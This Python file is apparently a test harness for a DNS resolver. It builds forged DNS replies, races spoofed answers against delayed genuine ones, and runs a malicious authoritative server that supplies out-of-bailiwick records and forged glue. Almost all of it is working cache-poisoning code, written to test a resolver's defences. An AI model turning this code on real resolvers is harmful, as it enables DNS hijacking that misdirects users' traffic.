#!/usr/bin/python3
"""spoofnet.py -- the hostile network of res_spoof.sh (run, not imported).

  spoofnet.py wire --ns /run/netns/NS --addrs A,B,... --delay-ms N
                   --source S --spare P --log F
      In the resolver's namespace: a UDP socket bound to port 53 of each
      authoritative address (the resolver sees the servers there).  Each
      query is forwarded at once to the real server in namespace NS
      (sockets opened there with setns(2), bound to S), and the real reply is held
      (delay-ms) before it is sent back from the same address and port:
      a slow path, so the forgeries always arrive first.  The attacker
      sees each query (but P's) (port, ID, the question in its 0x20 case) and,
      before forwarding it, races these at the resolver, each with a
      poisoned answer (A 198.51.100.66 for the name, forged glue):
        (b) 8 with the right port and address, wrong IDs
        (e) 4 with the right port and ID, a question that does not match
            (another name, another type, class CH, no question)
        (x) 2 with the right port and ID, the question in another case
            (only when the name has letters: 0x20)
        (a) 8 with the right ID, the source address, to wrong ports
        (c) the genuine answer seen before for this question (learned),
            right port, ID and case, with records for names outside the
            server's zones added (FOREIGN: another zone's addresses)
        (d) the same for a referral: forged glue for names outside the
            delegated zone (ns.other., ns1.example.tld. -> 10.53.0.12)
      Counts go to F (JSON) on SIGTERM and every second.

  spoofnet.py evil --addr A --log F
      A malicious authoritative server for evil. (delegated from the
      root): in-zone answers with out-of-bailiwick records added (other
      zones' addresses in the answer and additional sections, foreign NS
      sets, an MX's target address, a CNAME's out-of-zone target with a
      forged address), and a referral for sub.evil. whose glue is for
      names outside the delegated zone (ns1.example.tld., ns.other.,
      pointing here).  Every query it gets is logged (name type).

Every loop is bounded by its caller's lifetime (SIGTERM); no loop runs
without a select() timeout.
"""
import ctypes
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time

POISON = "198.51.100.66"
EVIL = "10.53.0.12"
# Names outside each server's zones (res_tree's tree), forged in the
# additional section of its learned replies: ns.* get the malicious
# server's address (forged glue), the others the poisoned one.  The root
# is authoritative for every name: not forged there.
FOREIGN = {
    "10.53.0.2": ["ns.other.", "www.other.", "mail.example.tld."],
    "10.53.0.3": ["ns.other.", "www.other.", "host.glueless.tld."],
    "10.53.0.4": ["ns1.example.tld.", "www.example.tld.",
                  "mail.example.tld."],
}


def name_wire(name):
    out = b""
    for label in name.strip(".").split("."):
        if label:
            out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def parse_question(msg):
    """(id, flags, qname wire bytes as sent, qtype, qclass, end) or None."""
    if len(msg) < 12:
        return None
    qid, flags, qd = struct.unpack(">HHH", msg[:6])
    if qd != 1:
        return None
    i = 12
    while i < len(msg) and msg[i] != 0:
        if msg[i] & 0xC0:
            return None
        i += 1 + msg[i]
    if i + 5 > len(msg):
        return None
    qname = msg[12:i + 1]
    qtype, qclass = struct.unpack(">HH", msg[i + 1:i + 5])
    return qid, flags, qname, qtype, qclass, i + 5


def wire_text(qname):
    labels, i = [], 0
    while qname[i]:
        labels.append(qname[i + 1:i + 1 + qname[i]].decode("ascii", "replace"))
        i += 1 + qname[i]
    return ".".join(labels) + "."


def rr(owner, rtype, rdata, ttl=3600):
    if isinstance(owner, str):
        owner = name_wire(owner)
    return owner + struct.pack(">HHIH", rtype, 1, ttl, len(rdata)) + rdata


def a_rdata(addr):
    return socket.inet_aton(addr)


def message(qid, flags, qname, qtype, qclass, an=(), ns=(), ar=(), qd=True):
    h = struct.pack(">HHHHHH", qid, flags, 1 if qd else 0, len(an), len(ns),
                    len(ar))
    q = qname + struct.pack(">HH", qtype, qclass) if qd else b""
    return h + q + b"".join(an) + b"".join(ns) + b"".join(ar)


def setns(path):
    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    fd = os.open(path, os.O_RDONLY)
    if libc.setns(fd, 0x40000000) != 0:  # CLONE_NEWNET
        raise OSError(ctypes.get_errno(), "setns " + path)
    os.close(fd)


# ---- the wire: delay and attacker ------------------------------------


def forgeries(qid, qname, qtype):
    """(what, id, question bytes, type, class, qd) for the spoofed replies."""
    poison_an = [rr(qname, 1, a_rdata(POISON), 86400)]
    poison_ar = [rr("ns1.example.tld.", 1, a_rdata(EVIL), 86400),
                 rr("ns.other.", 1, a_rdata(EVIL), 86400)]
    flags = 0x8400  # QR AA, NOERROR
    out = []
    for k in range(8):  # (b) wrong IDs
        bad = (qid + 1 + k * 7919 + random.randrange(1000)) & 0xFFFF
        if bad == qid:
            bad ^= 0x5555
        out.append(("b", message(bad, flags, qname, qtype, 1, poison_an,
                                 (), poison_ar)))
    other = b"\x01x" + qname
    out.append(("e", message(qid, flags, other, qtype, 1,
                             [rr(other, 1, a_rdata(POISON))], (), poison_ar)))
    out.append(("e", message(qid, flags, qname, 28 if qtype != 28 else 1, 1,
                             poison_an, (), poison_ar)))
    out.append(("e", message(qid, flags, qname, qtype, 3, poison_an, (),
                             poison_ar)))
    out.append(("e", message(qid, flags, qname, qtype, 1, poison_an, (),
                             poison_ar, qd=False)))
    if any(chr(c).isalpha() for c in qname):
        low = bytes(c | 0x20 if 65 <= c <= 90 else c for c in qname)
        up = bytes(c & ~0x20 if 97 <= c <= 122 else c for c in qname)
        for alt in (low, up):
            if alt == qname:  # flip one letter instead
                i = next(j for j, c in enumerate(qname) if chr(c).isalpha())
                alt = qname[:i] + bytes([qname[i] ^ 0x20]) + qname[i + 1:]
            out.append(("x", message(qid, flags, alt, qtype, 1, poison_an,
                                     (), poison_ar)))
    return out


def forge_learned(reply, qid, qname, addr):
    """The genuine reply learned for this question, with the ID and the
    question as sent and out-of-bailiwick records appended to the
    additional section: ("c", msg) for an answer, ("d", msg) for a
    referral, or None."""
    names = FOREIGN.get(addr)
    if not names or len(reply) < 12 + len(qname) or \
            reply[12:12 + len(qname)].lower() != qname.lower():
        return None
    m = bytearray(reply)
    struct.pack_into(">H", m, 0, qid)
    m[12:12 + len(qname)] = qname
    for n in names:
        m += rr(n, 1, a_rdata(EVIL if n.startswith("ns") else POISON), 86400)
    ar = struct.unpack_from(">H", m, 10)[0]
    struct.pack_into(">H", m, 10, ar + len(names))
    an, ns = struct.unpack_from(">HH", m, 6)
    referral = not (m[2] & 0x04) and an == 0 and ns > 0
    return ("d" if referral else "c"), bytes(m)


def wire(args):
    addrs = args.addrs.split(",")
    listen = {}
    for a in addrs:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((a, 53))
        s.setblocking(False)
        listen[s.fileno()] = (s, a)
    setns(args.ns)  # upstream sockets in the servers' namespace
    pool = []
    for _ in range(32):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((args.source, 0))
        s.setblocking(False)
        pool.append(s)
    up = {s.fileno(): s for s in pool}
    pending = {}  # (pool index, server, id) -> (listen socket, client)
    held = []  # (due, listen socket, client, reply)
    learned = {}  # (server, name, type) -> the genuine reply
    st = {"queries": 0, "b": 0, "e": 0, "x": 0, "a": 0, "c": 0, "d": 0,
          "forwarded": 0, "replies": 0, "names": {}}
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    nxt = 0
    last_dump = 0.0

    def dump():
        with open(args.log + ".tmp", "w") as f:
            json.dump(st, f)
        os.replace(args.log + ".tmp", args.log)

    delay = args.delay_ms / 1000.0
    while not stop:
        now = time.monotonic()
        timeout = 0.2
        if held:
            timeout = max(0.0, min(timeout, held[0][0] - now))
        try:
            r, _, _ = select.select(list(listen) + list(up), [], [], timeout)
        except InterruptedError:
            r = []
        for fd in r:
            if fd in listen:
                ls, addr = listen[fd]
                for _ in range(64):
                    try:
                        msg, client = ls.recvfrom(4096)
                    except BlockingIOError:
                        break
                    p = parse_question(msg)
                    if p is None or msg[2] & 0x80:
                        continue
                    qid, _, qname, qtype, _, _ = p
                    i = nxt
                    nxt = (nxt + 1) % len(pool)
                    key = (addr, bytes(qname).lower(), qtype)
                    pending[(i, addr, qid)] = (ls, client, key)
                    if client[0] == args.spare:  # only delayed
                        pool[i].sendto(msg, (addr, 53))
                        continue
                    st["queries"] += 1
                    n = wire_text(qname).lower()
                    st["names"][n] = st["names"].get(n, 0) + 1
                    # the race: every forgery before the real query
                    for what, f in forgeries(qid, qname, qtype):
                        ls.sendto(f, client)
                        st[what] += 1
                    for _ in range(8):  # (a) right ID, wrong port
                        port = client[1]
                        while port in (client[1], 53, 5353, 9153):
                            port = random.randrange(1024, 65536)
                        ls.sendto(message(qid, 0x8400, qname, qtype, 1,
                                          [rr(qname, 1, a_rdata(POISON))]),
                                  (client[0], port))
                        st["a"] += 1
                    # (c)/(d): the genuine reply seen before, first
                    f = forge_learned(learned[key], qid, qname, addr) \
                        if key in learned else None
                    if f is not None:
                        ls.sendto(f[1], client)
                        st[f[0]] += 1
                    pool[i].sendto(msg, (addr, 53))
                    st["forwarded"] += 1
            else:
                s = up[fd]
                i = pool.index(s)
                for _ in range(64):
                    try:
                        msg, src = s.recvfrom(65535)
                    except BlockingIOError:
                        break
                    if len(msg) < 2:
                        continue
                    key = (i, src[0], struct.unpack(">H", msg[:2])[0])
                    if key in pending:
                        ls, client, q = pending.pop(key)
                        if not (msg[2] & 0x02) and (msg[3] & 0x0F) in (0, 3):
                            learned.setdefault(q, msg)
                        held.append((time.monotonic() + delay, ls, client,
                                     msg))
        now = time.monotonic()
        while held and held[0][0] <= now:
            _, ls, client, msg = held.pop(0)
            ls.sendto(msg, client)
            st["replies"] += 1
        if len(pending) > 4096:
            pending.clear()
        if now - last_dump > 1:
            dump()
            last_dump = now
    dump()


# ---- the malicious authoritative server ------------------------------


def evil_answer(msg):
    p = parse_question(msg)
    if p is None:
        return None, None
    qid, flags, qname, qtype, qclass, _ = p
    name = wire_text(qname).lower()
    rd = flags & 0x0100
    soa = rr("evil.", 6, name_wire("ns.evil.") + name_wire("host.evil.") +
             struct.pack(">IIIII", 1, 1800, 900, 604800, 60), 60)
    foreign_ns = rr("example.tld.", 2, name_wire("ns.evil."), 86400)
    forged_glue = [rr("ns1.example.tld.", 1, a_rdata(EVIL), 86400),
                   rr("ns.other.", 1, a_rdata(EVIL), 86400),
                   rr("www.other.", 1, a_rdata(POISON), 86400)]
    aa = 0x8400 | rd
    an, ns, ar, rcode = [], [], [], 0
    if name == "evil.":
        if qtype == 2:
            an = [rr("evil.", 2, name_wire("ns.evil."))]
            ar = [rr("ns.evil.", 1, a_rdata(EVIL))] + forged_glue
        elif qtype == 6:
            an = [soa]
        else:
            ns = [soa]
    elif name == "ns.evil.":
        if qtype == 1:
            an = [rr("ns.evil.", 1, a_rdata(EVIL))]
            ar = forged_glue
        else:
            ns = [soa]
    elif name == "a.evil.":
        if qtype == 1:
            an = [rr("a.evil.", 1, a_rdata("192.0.2.200"), 300),
                  rr("www.example.tld.", 1, a_rdata(POISON), 86400)]
            ns = [rr("evil.", 2, name_wire("ns.evil.")), foreign_ns]
            ar = forged_glue
        else:
            ns = [soa]
    elif name == "c.evil.":
        an = [rr("c.evil.", 5, name_wire("www.example.tld."), 300),
              rr("www.example.tld.", 1, a_rdata(POISON), 86400)]
        ns = [foreign_ns]
        ar = forged_glue
    elif name == "mx.evil.":
        if qtype == 15:
            an = [rr("mx.evil.", 15, struct.pack(">H", 10) +
                     name_wire("mail.example.tld."), 300)]
            ar = [rr("mail.example.tld.", 1, a_rdata(POISON), 86400)] + \
                forged_glue
        else:
            ns = [soa]
            ar = [rr("mail.example.tld.", 1, a_rdata(POISON), 86400)]
    elif name == "sub.evil." or name.endswith(".sub.evil."):
        # a referral whose glue lies outside the delegated zone
        aa = 0x8000 | rd
        ns = [rr("sub.evil.", 2, name_wire("ns1.example.tld.")),
              rr("sub.evil.", 2, name_wire("ns.other.")), foreign_ns]
        ar = forged_glue
    else:
        rcode = 3
        ns = [soa, rr("example.tld.", 6, name_wire("ns.evil.") +
                      name_wire("host.evil.") +
                      struct.pack(">IIIII", 9, 1800, 900, 604800, 86400),
                      86400)]
        an = [rr("www.other.", 1, a_rdata(POISON), 86400)]
    return message(qid, aa | rcode, qname, qtype, qclass, an, ns, ar), \
        "%s %d" % (name, qtype)


def evil(args):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((args.addr, 53))
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    with open(args.log, "a") as log:
        while not stop:
            try:
                r, _, _ = select.select([s], [], [], 0.2)
            except InterruptedError:
                continue
            if not r:
                continue
            msg, peer = s.recvfrom(4096)
            out, what = evil_answer(msg)
            if out is None:
                continue
            log.write("%s %s\n" % (peer[0], what))
            log.flush()
            s.sendto(out, peer)


def main():
    import argparse
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    w = sub.add_parser("wire")
    w.add_argument("--ns", required=True)
    w.add_argument("--addrs", required=True)
    w.add_argument("--delay-ms", type=int, default=50)
    w.add_argument("--source", default="0.0.0.0")
    w.add_argument("--spare", default="")
    w.add_argument("--log", required=True)
    e = sub.add_parser("evil")
    e.add_argument("--addr", required=True)
    e.add_argument("--log", required=True)
    args = ap.parse_args()
    random.seed()
    if args.cmd == "wire":
        wire(args)
    else:
        evil(args)


if __name__ == "__main__":
    sys.exit(main())
